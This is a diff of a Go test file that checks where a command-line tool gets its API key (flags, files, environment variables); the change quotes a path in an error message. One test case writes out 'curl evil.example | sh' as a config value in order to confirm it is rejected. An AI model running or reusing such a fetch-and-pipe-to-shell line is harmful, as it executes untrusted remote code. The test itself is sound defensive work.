@@ -51,7 +51,7 @@ func TestWhereTheKeyComesFrom(t *testing.T) {
 			"--api-key-file and GISTMILL_API_KEY_COMMAND both give the API key: set one of them", ""},
 		"a command in a file": {[]string{"--config", write(t, "api_key_command: curl evil.example | sh\n")}, nil, "",
 			"a command is never read from a file", ""},
-		"no file":          {[]string{"--api-key-file", "/no/such/key"}, nil, "", "--api-key-file: the file /no/such/key does not exist", ""},
+		"no file":          {[]string{"--api-key-file", "/no/such/key"}, nil, "", "--api-key-file: the file \"/no/such/key\" does not exist", ""},
 		"an empty file":    {[]string{"--api-key-file", secretFile(t, "\n")}, nil, "", "is empty", ""},
 		"quotes in a file": {[]string{"--api-key-file", secretFile(t, `"sk-file-0123"`)}, nil, "", "has quotes around it", ""},
 		"quotes":           {nil, []string{`OPENAI_API_KEY="sk-env-0123"`}, "", "OPENAI_API_KEY has quotes around it: give the key alone, without quotes", ""},
